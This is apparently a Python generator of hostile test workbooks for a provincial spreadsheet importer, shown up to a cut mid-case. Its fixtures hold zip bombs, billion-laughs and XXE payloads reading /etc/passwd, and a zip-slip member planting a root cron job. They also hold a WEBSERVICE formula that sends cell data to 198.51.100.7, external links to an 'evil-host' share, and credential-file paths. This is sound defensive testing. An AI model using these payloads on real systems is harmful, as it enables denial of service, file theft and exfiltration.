"""Hostile inputs for the provincial importer and the checklist loader, generated (no committed binaries).

Every case is a file a provincial office might receive, or a checklist file an office might be handed, that is
broken or built to hurt: truncated or bomb zips, XML entity tricks, absurd sheet sizes, formulas and external
links, wrong cell types, overlong and invisible text, path-like evidence names, borrowed signatures, files that
are not workbooks at all. Each has the verdict the program must reach and a phrase its reason must contain.

    .venv/bin/python tests/corpus/make_corpus.py OUT_DIR     # writes the files and prints the table

``build_corpus(folder)`` returns the cases with their files; ``SPECS`` lists them without building anything
(pytest parametrizes on it). Workbook cases are judged by ``app.merge.worker.process_file`` with the corpus
CA trusted (``trust_pem(folder)``), as ``selfcheck merge --trust`` does; checklist cases by ``load_checklist``.

Decisions documented here (they are policy):
* Formulas are never evaluated and external links never followed: calamine reads cached values only, and the
  master workbook is written as text. A formula in a cell outside the layout's columns, or an externalLink part,
  changes nothing that is signed, so such a file is accepted; a formula that changes a signed cell's value is
  tampering and is rejected.
* Control and bidirectional-override characters (U+202E, U+200B, U+2066…) are removed when cells are read, the
  same way the unit's own program removes them on input. A file whose signed data, once cleaned, is intact is
  accepted, and the cleaned text is what the province stores; nothing invisible survives.
* Evidence and note columns are text. A value like ``../../etc/passwd`` is data, never a path (the importer
  opens no file named in a workbook), so a signed file carrying it is accepted.
* A declared ``<dimension>`` is ignored by the reader; only cells that exist count toward the size limit.
"""

from __future__ import annotations

import copy
import datetime as dt
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:  # run as a script
    sys.path.insert(0, str(ROOT))

CA_PASS = b"corpus-ca-passphrase"
UNIT_PASS = b"corpus-unit-passphrase"
INSPECTION_DAY = dt.date(2025, 11, 20)
ISSUED = dt.datetime.now(dt.UTC) - dt.timedelta(days=30)
UNIT_A = ("330106", "MB0000011", "杭州市西湖区数据资源管理局")
UNIT_B = ("320583", "MB0000022", "昆山市政务服务管理办公室")
LEDGER_PART = "xl/worksheets/sheet2.xml"  # 应用程序台账: sheets are written in layout order
UNIT_PART = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class Case:
    name: str
    file: Path
    kind: str       # "workbook" | "checklist"
    expected: str   # "rejected" | "accepted"
    reason: str     # a phrase the verdict must contain ("" for an accepted file: no reason at all)
    note: str = ""


@dataclass(frozen=True)
class Spec:
    name: str
    filename: str
    kind: str
    expected: str
    reason: str
    note: str
    build: Callable[[Kit, Path], None]


SPECS: list[Spec] = []


def case(name: str, filename: str, expected: str, reason: str, note: str, kind: str = "workbook") -> Callable:
    def register(build: Callable[[Kit, Path], None]) -> Callable[[Kit, Path], None]:
        assert name not in {s.name for s in SPECS}, name
        SPECS.append(Spec(name, filename, kind, expected, reason, note, build))
        return build
    return register


@dataclass
class Kit:
    """What the cases are made from: a provincial CA, two units' data and signers, one good signed file."""

    folder: Path
    work: Path
    data_a: Any = None
    data_b: Any = None
    signer_a: Any = None
    signer_b: Any = None
    self_signed_a: Any = None
    good: Path = field(default_factory=Path)

    def signed(self, out: Path, mutate: Callable[[Any], None] | None = None, signer: Any = None,
               data: Any = None) -> Path:
        from app.signing.workbook import signature_meta
        from app.workbook.writer import write_workbook

        d = copy.deepcopy(data or self.data_a)
        if mutate:
            mutate(d)
        d.meta.update(signature_meta(d, signer or self.signer_a, None))
        return write_workbook(d, out)

    def unsigned(self, out: Path) -> Path:
        from app.workbook.writer import write_workbook

        return write_workbook(copy.deepcopy(self.data_a), out)


def _unit_data(work: Path, unit: tuple[str, str, str], seed: int) -> tuple[Any, Any, str]:
    from app.commands.export_service import workbook_data
    from app.core.codes import make_credit_code
    from app.demo import DemoOptions, build_demo
    from app.signing.ca import ca_issue

    region, org, name = unit
    code = make_credit_code(region, org)
    store = build_demo(work / f"unit{seed}.db", DemoOptions(apps=2, accounts=2, groups=2, seed=seed, unit_code=code,
                                                            unit_name=name, region=region, today=INSPECTION_DAY))
    try:
        data = workbook_data(store, store.current_inspection().id)
    finally:
        store.close()
    signer = ca_issue(work / "ca", code, name, work / f"unit{seed}.p12", UNIT_PASS, CA_PASS, not_before=ISSUED)
    return data, signer, code


def make_kit(folder: Path) -> Kit:
    from app.signing.ca import ca_init
    from app.signing.keys import new_unit_p12

    folder = Path(folder)
    work = folder / "_work"
    work.mkdir(parents=True, exist_ok=True)
    ca_init("浙江省委网信办", work / "ca", CA_PASS)
    kit = Kit(folder, work)
    kit.data_a, kit.signer_a, code_a = _unit_data(work, UNIT_A, 1)
    kit.data_b, kit.signer_b, _ = _unit_data(work, UNIT_B, 2)
    kit.self_signed_a = new_unit_p12(work / "self.p12", code_a, UNIT_A[2], UNIT_PASS)
    kit.good = kit.signed(work / "good.xlsx")
    return kit


def trust_pem(folder: Path) -> bytes:
    """The corpus CA certificate (what the province passes as --trust)."""
    return (Path(folder) / "_work" / "ca" / "ca.pem").read_bytes()


# ---- zip surgery ----------------------------------------------------------------------------------------

def rezip(src: Path, dst: Path, replace: dict[str, Callable[[bytes], bytes]] | None = None,
          add: dict[str, bytes] | None = None, stored: frozenset[str] = frozenset()) -> Path:
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            content = zin.read(info)
            if info.filename in replace:
                content = replace[info.filename](content)
            mode = zipfile.ZIP_STORED if info.filename in stored else zipfile.ZIP_DEFLATED
            zout.writestr(info.filename, content, compress_type=mode)
        for name, content in add.items():
            zout.writestr(name, content)
    return dst


def _patch_sizes(path: Path, member: str, *, file_size: int | None = None, crc: int | None = None,
                 flag: int = 0) -> None:
    """Rewrite a member's declared uncompressed size and/or set flag bits, in its local header and in the
    central directory (what a crafted zip does; zipfile itself never writes such a lie)."""
    blob = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(member)
    local = info.header_offset
    assert blob[local:local + 4] == b"PK\x03\x04"
    pos = blob.find(b"PK\x01\x02")
    while pos >= 0:
        name_len = struct.unpack_from("<H", blob, pos + 28)[0]
        if bytes(blob[pos + 46:pos + 46 + name_len]) == member.encode():
            break
        pos = blob.find(b"PK\x01\x02", pos + 4)
    assert pos >= 0, member
    if file_size is not None:
        struct.pack_into("<I", blob, local + 22, file_size)
        struct.pack_into("<I", blob, pos + 24, file_size)
    if crc is not None:
        struct.pack_into("<I", blob, local + 14, crc)
        struct.pack_into("<I", blob, pos + 16, crc)
    if flag:
        struct.pack_into("<H", blob, local + 6, struct.unpack_from("<H", blob, local + 6)[0] | flag)
        struct.pack_into("<H", blob, pos + 8, struct.unpack_from("<H", blob, pos + 8)[0] | flag)
    path.write_bytes(bytes(blob))


def _zeros_part(path: Path, member: str, megabytes: int) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        info = zipfile.ZipInfo(member, date_time=(2025, 11, 20, 9, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w") as f:
            block = b"0" * (1024 * 1024)
            for _ in range(megabytes):
                f.write(block)


def _before_sheet_data_end(extra: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)


def _after_prolog(insert: bytes) -> Callable[[bytes], bytes]:
    """Put ``insert`` after the XML declaration (or at the start when there is none)."""
    def patch(xml: bytes) -> bytes:
        end = xml.find(b"?>") + 2 if xml.startswith(b"<?xml") else 0
        return xml[:end] + insert + xml[end:]
    return patch


def _replace_cell(ref: str, new: bytes) -> Callable[[bytes], bytes]:
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*>.*?</c>', re.S)

    def patch(xml: bytes) -> bytes:
        out, n = pattern.subn(new, xml, count=1)
        assert n == 1, ref
        return out
    return patch


BILLION_LAUGHS = b"""<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""
XXE = b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
ENTITY_REASON = "DOCTYPE/ENTITY"
BROKEN_ZIP = "文件已损坏或不完整"
GRID = "工作表的行列范围过大"
TAMPERED = "签名后被修改"


# ---- workbooks: not a workbook at all -------------------------------------------------------------------

@case("empty_file", "空文件.xlsx", "rejected", "文件为空", "0 字节")
def _(kit: Kit, out: Path) -> None:
    out.write_bytes(b"")


for _name, _cut, _note in [("truncated_local_header", 30, "只剩第一个本地文件头"),
                           ("truncated_half", 0.5, "传输中断,只到一半"),
                           ("truncated_central_directory", -300, "中央目录被截掉一截"),
                           ("truncated_end_record", -10, "末尾目录记录缺 10 字节")]:
    @case(_name, f"截断_{_name}.xlsx", "rejected", BROKEN_ZIP, _note)
    def _(kit: Kit, out: Path, cut: float = _cut) -> None:
        blob = kit.good.read_bytes()
        at = int(len(blob) * cut) if isinstance(cut, float) else (cut if cut > 0 else len(blob) + cut)
        out.write_bytes(blob[:at])


@case("xls_renamed", "旧版工作簿.xlsx", "rejected", "旧版 .xls", "OLE 复合文档头,改了扩展名")
def _(kit: Kit, out: Path) -> None:
    out.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4088)


@case("pdf_renamed", "自查报告.xlsx", "rejected", "这是 PDF 文件", "报告 PDF 改了扩展名")
def _(kit: Kit, out: Path) -> None:
    out.write_bytes(b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


@case("text_renamed", "报送说明.xlsx", "rejected", "文本文件", "通知正文存成了 .xlsx")
def _(kit: Kit, out: Path) -> None:
    out.write_text("各单位:请于12月31日前报送自查一张表及自查报告。\n联系人:王芳 0571-88888888\n", encoding="gb18030")


# ---- workbooks: hostile zips ----------------------------------------------------------------------------

@case("zip_bomb_ratio", "压缩炸弹.xlsx", "rejected", "疑似压缩炸弹", "一个部件 256 MB 的零,压缩后约 250 KB")
def _(kit: Kit, out: Path) -> None:
    _zeros_part(out, "xl/worksheets/sheet1.xml", 256)


@case("zip_bomb_understated", "压缩炸弹_谎报大小.xlsx", "rejected", "实际解压后超过声明的",
      "部件声明 4 KB、CRC 也按前 4 KB 伪造(压缩比与校验都看似正常),实际解压 64 MB")
def _(kit: Kit, out: Path) -> None:
    _zeros_part(out, "xl/worksheets/sheet1.xml", 64)
    _patch_sizes(out, "xl/worksheets/sheet1.xml", file_size=4096, crc=zlib.crc32(b"0" * 4096))


@case("encrypted_flag", "加密标志.xlsx", "rejected", "文件已加密", "部件带 zip 加密标志位")
def _(kit: Kit, out: Path) -> None:
    out.write_bytes(kit.good.read_bytes())
    _patch_sizes(out, LEDGER_PART, flag=0x1)


@case("zip_member_traversal", "路径穿越部件.xlsx", "rejected", "不安全的路径", "压缩包内有 ../../ 部件名")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, add={"../../etc/cron.d/selfcheck": b"* * * * * root sh -c 'id'\n"})


@case("too_many_members", "部件过多.xlsx", "rejected", "部件过多", "2,100 个小部件")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, add={f"xl/media/image{i}.png": b"x" for i in range(2100)})


# ---- workbooks: XML entity tricks -----------------------------------------------------------------------

@case("billion_laughs_sheet", "实体炸弹_工作表.xlsx", "rejected", ENTITY_REASON, "工作表 XML 中的十亿笑声")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: _after_prolog(BILLION_LAUGHS)})


@case("billion_laughs_shared_strings", "实体炸弹_共享字符串.xlsx", "rejected", ENTITY_REASON,
      "sharedStrings.xml 中的十亿笑声")
def _(kit: Kit, out: Path) -> None:
    sst = (b'<?xml version="1.0" encoding="UTF-8"?>' + BILLION_LAUGHS +
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           b"<si><t>&lol9;</t></si></sst>")
    rezip(kit.good, out, add={"xl/sharedStrings.xml": sst})


@case("xxe_workbook_xml", "外部实体_workbook.xlsx", "rejected", ENTITY_REASON,
      'workbook.xml 中 SYSTEM "file:///etc/passwd"')
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={"xl/workbook.xml": _after_prolog(XXE)})


@case("xxe_sheet", "外部实体_工作表.xlsx", "rejected", ENTITY_REASON, "工作表单元格引用 &xxe;(/etc/passwd)")
def _(kit: Kit, out: Path) -> None:
    cell = b'<c r="B2" t="inlineStr"><is><t>&xxe;</t></is></c>'
    rezip(kit.good, out, replace={LEDGER_PART: lambda x: _after_prolog(XXE)(_replace_cell("B2", cell)(x))})


@case("doctype_after_long_comment", "实体藏在长注释后.xlsx", "rejected", ENTITY_REASON,
      "70 KB 注释把 DOCTYPE 推到旧扫描窗口之外:XML 解析器在哪里遇到 DTD 都拒绝")
def _(kit: Kit, out: Path) -> None:
    pad = b"<!--" + "填充".encode() * 12000 + b"-->"
    rezip(kit.good, out, replace={LEDGER_PART: _after_prolog(pad + XXE)})


# ---- workbooks: sizes -----------------------------------------------------------------------------------

@case("declared_dimension_huge", "声明范围XFD1048576.xlsx", "accepted", "",
      '只声明 <dimension ref="A1:XFD1048576"/>,没有这么多单元格:读取器不看声明,签名完好')
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: lambda x: x.replace(
        b"</sheetPr>", b'</sheetPr><dimension ref="A1:XFD1048576"/>', 1)})


@case("cell_at_last_row", "末行单元格.xlsx", "rejected", GRID,
      "第 1048576 行有一个单元格:读取器会铺开 100 万行 × 20 列(曾耗时 9 秒、900 MB)")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(
        b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>APP-9999</t></is></c></row>')})


@case("cell_at_xfd1048576", "XFD1048576单元格.xlsx", "rejected", GRID,
      "XFD1048576 有一个单元格:170 亿格,读取进程曾直接中止")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')})


@case("implicit_rows", "无编号行.xlsx", "rejected", GRID,
      "110 万个不带 r 的空 <row/>(未压缩存放,避开压缩比检查),再接一行单元格")
def _(kit: Kit, out: Path) -> None:
    rows = b"<row/>" * 1_100_000 + b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(rows)}, stored=frozenset({LEDGER_PART}))


# ---- workbooks: XML read as XML (issue 18): names by namespace, attributes as attributes -------------------
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FAR_CELL = b'<v>1</v></c></row>'


def _prefixed(prefix: bytes) -> Callable[[bytes], bytes]:
    """Every element of the sheet written with ``prefix:`` bound to the spreadsheet namespace (valid XML)."""
    def patch(xml: bytes) -> bytes:
        xml = re.sub(rb"<(/?)(?![?!])", rb"<\1" + prefix + rb":", xml)
        return xml.replace(b'xmlns="' + MAIN_NS + b'"', b"xmlns:" + prefix + b'="' + MAIN_NS + b'"', 1)
    return patch


@case("namespaced_cell_tag_far", "命名空间单元格标签.xlsx", "rejected", GRID,
      "第 2 行里加一个 <x:c\tr=\"XFD1048576\">…</x:c\t>(前缀、制表符,都是合法 XML):约 23 KB,"
      "旧的字符串扫描放行,读取器铺开 170 亿格而中止")
def _(kit: Kit, out: Path) -> None:
    cell = b'<x:c\tr="XFD1048576" xmlns:x="' + MAIN_NS + b'"><x:v>1</x:v></x:c\t></row>'
    rezip(kit.good, out, replace={LEDGER_PART: lambda x: x.replace(b"</row>", cell, 2).replace(cell, b"</row>", 1)})


@case("non_ascii_prefix_cell", "中文前缀单元格.xlsx", "rejected", GRID, "<表:c r=\"XFD1048576\">:前缀是中文字符")
def _(kit: Kit, out: Path) -> None:
    cell = ('<row r="1048576"><表:c r="XFD1048576" xmlns:表="' + MAIN_NS.decode() + '"><表:v>1</表:v></表:c></row>')
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(cell.encode())})


@case("gt_inside_attribute_before_ref", "属性值含大于号.xlsx", "rejected", GRID,
      '<c s="0" x-note="a>b" r="XFD1048576">:字符串扫描在引号里的 > 处就以为标签结束了')
def _(kit: Kit, out: Path) -> None:
    cell = b'<row r="1048576"><c s="0" note="a&gt;b>c" r="XFD1048576">' + FAR_CELL
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(cell)})


@case("fake_ref_inside_other_attribute", "属性值里藏引用.xlsx", "rejected", GRID,
      "<c note='x r=\"A1\"' r=\"XFD1048576\">:另一个属性的值里写着小引用,真正的 r 在后面")
def _(kit: Kit, out: Path) -> None:
    cell = b"<row r=\"1048576\"><c note='x r=\"A1\"' r=\"XFD1048576\">" + FAR_CELL
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(cell)})


@case("implicit_cell_after_far_row", "远处行中无引用的单元格.xlsx", "rejected", GRID,
      '<row r="1048570"> 里一个不带 r 的单元格:位置由行号推出,同样要计入')
def _(kit: Kit, out: Path) -> None:
    cells = b'<row r="1048570"><c t="inlineStr"><is><t>x</t></is></c><c/><c/><c/></row>'
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(cells)})


@case("utf16_sheet_far_cell", "UTF-16工作表.xlsx", "rejected", GRID, "工作表 XML 改用 UTF-16 编码,XFD1048576 有单元格")
def _(kit: Kit, out: Path) -> None:
    def patch(xml: bytes) -> bytes:
        xml = _before_sheet_data_end(b'<row r="1048576"><c r="XFD1048576">' + FAR_CELL)(xml)
        text = xml.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return text.encode("utf-16")
    rezip(kit.good, out, replace={LEDGER_PART: patch})


@case("shared_strings_huge_unique_count", "共享字符串声明40亿.xlsx", "rejected", "共享字符串",
      '<sst uniqueCount="4000000000">:读取器按声明预留字符串表(约 96 GB)')
def _(kit: Kit, out: Path) -> None:
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + MAIN_NS +
           b'" count="1" uniqueCount="4000000000"><si><t>x</t></si></sst>')
    rezip(kit.good, out, add={"xl/sharedStrings.xml": sst})


@case("sheet_hidden_in_binary_part", "图片里的工作表.xlsx", "rejected", "不是 XML,却含有工作表",
      "xl/media/image1.png 实为带 XFD1048576 单元格的工作表,关系文件把工作表指向它")
def _(kit: Kit, out: Path) -> None:
    fake = (b"\x89PNG\r\n\x1a\n<worksheet xmlns=\"" + MAIN_NS + b'"><sheetData><row r="1048576"><c r="XFD1048576">'
            + FAR_CELL + b"</sheetData></worksheet>")
    rezip(kit.good, out, add={"xl/media/image1.png": fake},
          replace={"xl/_rels/workbook.xml.rels": lambda x: x.replace(b"worksheets/sheet2.xml", b"media/image1.png")})


@case("xlsb_part_inside", "夹带xlsb部件.xlsx", "rejected", "其他格式", "带 xl/workbook.bin:读取器可能改按 xlsb 解析")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, add={"xl/workbook.bin": b"\x83\x01\x00" * 100})


@case("two_zips_concatenated", "两个压缩包拼接.xlsx", "rejected", "压缩包结构异常",
      "合格工作簿后面再接一个压缩包:不同的 zip 读取器看到的部件不同")
def _(kit: Kit, out: Path) -> None:
    other = kit.work / "other.xlsx"
    rezip(kit.good, other, replace={LEDGER_PART: _before_sheet_data_end(b'<row r="1048576"><c r="XFD1048576">'
                                                                        + FAR_CELL)})
    out.write_bytes(kit.good.read_bytes() + other.read_bytes())


@case("malformed_sheet_xml", "工作表XML不完整.xlsx", "rejected", "不是有效的 XML", "工作表少了结束标签")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: lambda x: x.replace(b"</worksheet>", b"")})


@case("prefixed_tags_everywhere", "全部标签带前缀.xlsx", "accepted", "",
      "工作表每个标签都写成 x:…(合法的命名空间写法):数据与签名不变,照常接收")
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: _prefixed(b"x")})


@case("empty_formatted_last_row", "末行只有格式.xlsx", "accepted", "",
      '<row r="1048576" ht="20" customHeight="1"/>:只设了行高、没有单元格,读取器不会铺开,照常接收')
def _(kit: Kit, out: Path) -> None:
    rezip(kit.good, out, replace={LEDGER_PART: _before_sheet_data_end(
        b'<row r="1048576" ht="20" customHeight="1"/>')})


# ---- workbooks: formulas and links ----------------------------------------------------------------------

@case("formula_outside_layout", "WEBSERVICE公式.xlsx", "accepted", "",
      "版式之外的 AZ2 单元格有 =WEBSERVICE(...):不求值、不联网、不入库,签名覆盖的数据未变")
def _(kit: Kit, out: Path) -> None:
    cell = (b'<c r="AZ2" t="str"><f>WEBSERVICE("http://198.51.100.7/collect?d="&amp;B2)</f>'
            b"<v>#VALUE!</v></c></row>")
    rezip(kit.good, out, replace={LEDGER_PART: lambda x: x.replace(b"</row>", cell, 2).replace(cell, b"</row>", 1)})


@case("formula_replaces_signed_value", "HYPERLINK公式.xlsx", "rejected", TAMPERED,
      "应用名称单元格换成 =HYPERLINK(...),缓存值与签名时不同")
def _(kit: Kit, out: Path) -> None:
    cell = (b'<c r="B2" t="str"><f>HYPERLINK("http://198.51.100.7/x","\xe7\x82\xb9\xe5\x87\xbb\xe6\x9f\xa5\xe7\x9c\x8b")'
            b"</f><v>\xe7\x82\xb9\xe5\x87\xbb\xe6\x9f\xa5\xe7\x9c\x8b</v></c>")
    rezip(kit.good, out, replace={LEDGER_PART: _replace_cell("B2", cell)})


@case("external_link_part", "外部链接.xlsx", "accepted", "",
      "带 externalLink 部件(指向 \\\\evil\\share 与 file:///etc/passwd):从不跟随,签名数据未变")
def _(kit: Kit, out: Path) -> None:
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink ' + ns + b' xmlns:r="http://schemas.openxmlformats.'
            b'org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/>'
            b"</sheetNames></externalBook></externalLink>")
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/externalLinkPath" Target="file:///\\\\evil-host\\share\\steal.xlsx" TargetMode="External"/>'
            b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    wb_rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
              b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    rezip(kit.good, out, replace={"xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", wb_rel)},
          add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


# ---- workbooks: wrong types in every column kind (signed, so the type is what fails) ---------------------

def _set(sheet: str, key: str, value: Any, row: int = 0) -> Callable[[Any], None]:
    def mutate(d: Any) -> None:
        if sheet == "unit":
            d.unit[key] = value
        else:
            d.rows[sheet][row][key] = value
    return mutate


for _name, _file, _sheet, _key, _value, _reason, _note in [
    ("text_in_int_column", "用户数填文字.xlsx", "app", "users", "约三千人", "“约三千人”不是有效的整数", "整数列"),
    ("text_in_date_column", "上线时间填文字.xlsx", "app", "launch_date", "去年三月", "“去年三月”不是有效的日期", "日期列"),
    ("bad_bool_value", "是否列填可能.xlsx", "app", "in_plan", "可能", "“可能”不是有效的是/否", "是/否列"),
    ("bad_choice_value", "平台填错.xlsx", "account", "platform", "企鹅号", "“企鹅号”不是可选值", "可选值列"),
    ("bad_verdict_value", "结论填差不多.xlsx", "results", "verdict", "差不多", "“差不多”不是可选值", "结论列"),
    ("bad_status_value", "整改状态填搁置.xlsx", "problems", "status", "搁置", "“搁置”不是可选值", "整改状态列"),
    ("text_in_problem_number", "序号填文字.xlsx", "problems", "number", "第一", "“第一”不是有效的整数", "问题序号(整数)"),
    ("text_in_unit_year", "年度填汉字.xlsx", "unit", "year", "二〇二五年", "“二〇二五年”不是有效的整数", "单位信息的年度"),
    ("text_in_unit_date", "检查日期填文字.xlsx", "unit", "inspection_date", "十一月下旬", "“十一月下旬”不是有效的日期",
     "单位信息的检查日期"),
]:
    @case(_name, _file, "rejected", _reason, f"{_note}类型错误,已签名")
    def _(kit: Kit, out: Path, sheet: str = _sheet, key: str = _key, value: Any = _value) -> None:
        kit.signed(out, _set(sheet, key, value))


@case("overlong_excel_limit", "超长文本_4万字.xlsx", "rejected", "内容过长(超过2000字)",
      "问题描述 40,000 字,超过 Excel 单元格上限 32,767")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out, _set("problems", "description", "群组过多重复报送," * 5000))


@case("overlong_layout_limit", "超长文本_2001字.xlsx", "rejected", "内容过长(超过2000字)", "说明 2,001 字,超过版式上限 2,000")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out, _set("results", "note", "说" * 2001))


# ---- workbooks: invisible characters, path-like text ----------------------------------------------------

INVISIBLE = "\u202e\u200b\u2066\u202c\u2069"


@case("bidi_and_control_chars", "右到左覆盖字符.xlsx", "rejected", "不可见的控制字符",
      "签名后在单位名称和应用名称里插入 U+202E/U+200B/U+2066 及字符引用:导出从不写入这类字符,验证判为签名后被修改")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out)
    unit_name = UNIT_A[2].encode()
    hostile_unit = ("\u202e" + UNIT_A[2][:3] + "\u200b" + UNIT_A[2][3:] + "\u202c").encode()
    app_name = kit.data_a.rows["app"][0]["name"].encode()
    hostile_app = b"&#x2066;" + app_name[:6] + b"&#8238;" + app_name[6:] + b"&#x2069;"

    def patch(xml: bytes) -> bytes:
        return xml.replace(unit_name, hostile_unit).replace(app_name, hostile_app)
    tmp = out.with_suffix(".tmp")
    out.rename(tmp)
    with zipfile.ZipFile(tmp) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
    rezip(tmp, out, replace=dict.fromkeys(sheets, patch))
    tmp.unlink()


@case("path_traversal_in_evidence", "证明材料路径穿越.xlsx", "accepted", "",
      "证明材料、说明列写 ../../etc/passwd、C:\\Windows\\…、\\\\host\\share:只是文本,从不当作路径")
def _(kit: Kit, out: Path) -> None:
    def mutate(d: Any) -> None:
        d.rows["results"][0]["evidence"] = r"../../etc/passwd；C:\Windows\System32\config\SAM；\\evil-host\share\x.exe"
        d.rows["results"][1]["note"] = "见 ../../../root/.ssh/id_rsa 与 /proc/self/environ"
    kit.signed(out, mutate)


# ---- workbooks: consistency ----------------------------------------------------------------------------

@case("duplicate_entity_ref", "编号重复.xlsx", "rejected", "编号“APP-0001”重复", "两个应用程序都编为 APP-0001")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out, lambda d: d.rows["app"][1].update(ref=d.rows["app"][0]["ref"]))


@case("duplicate_problem_number", "问题序号重复.xlsx", "rejected", "序号 1 重复", "两条问题都编为 1")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out, lambda d: d.rows["problems"][1].update(number=1))


@case("missing_required_sheet", "缺少公众账号台账.xlsx", "rejected", "工作表“公众账号台账”:缺少该工作表", "删掉一个台账工作表")
def _(kit: Kit, out: Path) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(kit.good)
    del wb["公众账号台账"]
    wb.save(out)


@case("extra_unknown_sheet", "多一张说明表.xlsx", "accepted", "",
      "另存时多加一张“附加说明”工作表:版式之外的工作表不读、不签、不入库")
def _(kit: Kit, out: Path) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(kit.good)
    wb.create_sheet("附加说明").append(["本单位另有 3 个群组正在清理中"])
    wb.save(out)


# ---- workbooks: signatures -----------------------------------------------------------------------------

@case("good_signed", "合规一张表.xlsx", "accepted", "", "对照:省级 CA 签发证书签名的正常导出")
def _(kit: Kit, out: Path) -> None:
    out.write_bytes(kit.good.read_bytes())


@case("signature_from_another_file", "借用签名.xlsx", "rejected", TAMPERED,
      "昆山单位的签名、证书和行摘要原样贴进西湖区的工作簿")
def _(kit: Kit, out: Path) -> None:
    from app.signing.workbook import signature_meta
    from app.workbook.writer import write_workbook

    other = signature_meta(kit.data_b, kit.signer_b, None)
    d = copy.deepcopy(kit.data_a)
    d.meta.update(other)
    write_workbook(d, out)


@case("certificate_of_another_unit", "他单位证书.xlsx", "rejected", "签名证书属于",
